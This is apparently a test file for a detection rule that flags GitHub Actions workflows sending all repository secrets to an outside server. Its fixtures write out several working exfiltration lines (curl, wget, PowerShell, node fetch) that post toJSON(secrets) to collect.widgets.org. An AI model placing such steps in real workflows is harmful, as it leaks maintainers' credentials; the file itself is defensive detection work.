import assert from 'node:assert/strict';
import { test } from 'node:test';
import { said } from '#test/support/scan-package.js';
import { rule } from '../data-leak.rule.js';
import { tellsSecrets } from './workflow-secrets.js';

const STEP = 'on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - name: Check\n        env:\n          ALL: ${{ toJSON(secrets) }}\n        run: |\n';
const step = (...lines: string[]) => STEP + lines.map((line) => `          ${line}\n`).join('');
const SENT = step('npm test', 'curl -s -d "$ALL" https://collect.widgets.org/v1');

test('bad: a workflow sends all secrets of a repository', () => {
  for (const workflow of [
    SENT,
    step('curl -s \\', '  --data "${ALL}" \\', '  https://collect.widgets.org/v1'),
    step('echo "$ALL" > out.json', 'curl -F "f=@out.json" https://collect.widgets.org/v1'),
    step('BODY=$(echo "$ALL" | base64 -w0)', 'wget -q "https://collect.widgets.org/?b=$BODY"'),
    step('echo "$ALL" | base64 -w0 | base64 -w0'),
    step('Invoke-RestMethod -Method Post -Body $env:ALL https://collect.widgets.org/v1'),
    step("node -e \"fetch('https://collect.widgets.org/v1', { method: 'POST', body: process.env.ALL })\""),
    'steps:\n  - run: curl -d \'${{ toJson(secrets) }}\' https://collect.widgets.org/v1\n',
  ]) assert.ok(tellsSecrets(workflow), workflow);
});

test('good: a step gets all secrets and sends none of them, or those that it needs', () => {
  for (const workflow of [
    step('echo "$ALL" | jq -r \'to_entries[] | "\\(.key)=\\(.value)"\' >> $GITHUB_ENV', 'curl -s https://status.widgets.org/started'),
    step('echo "$ALL" > .env.json', 'npm run build', 'curl -s -d "done" https://chat.widgets.org/hook'),
    step('echo "$ALL" | base64 > secrets.b64', 'npm test'),
    'jobs:\n  build:\n    steps:\n      - uses: widgets/load-secrets@v1\n        with:\n          secrets: ${{ toJSON(secrets) }}\n      - run: curl -s https://status.widgets.org\n',
    'steps:\n  - env:\n      TOKEN: ${{ secrets.DEPLOY_TOKEN }}\n    run: curl -H "authorization: $TOKEN" https://deploy.widgets.org/v1\n',
  ]) assert.ok(!tellsSecrets(workflow), workflow);
});

test('in files that become a workflow, and in texts of scripts', () => {
  for (const path of ['templates/check.yml', '.github/workflows/check.yaml', 'templates/workflow.tpl', 'templates/workflow']) assert.deepEqual(said(rule, { [path]: SENT }), [`high ${path}:9`], path);
  assert.deepEqual(said(rule, { 'docs/workflow.md': SENT }), []);
  const script = (text: string) => said(rule, { 'a.js': `require("fs").writeFileSync(".github/workflows/check.yml", ${text})` }).length;
  assert.equal(script(`\`${SENT.replaceAll('$', '\\$')}\``), 1);
  assert.equal(script(`[${SENT.split('\n').map((line) => JSON.stringify(line)).join(', ')}].join("\\n")`), 1);
  assert.equal(script(`\`${step('npm test').replaceAll('$', '\\$')}\``), 0);
});
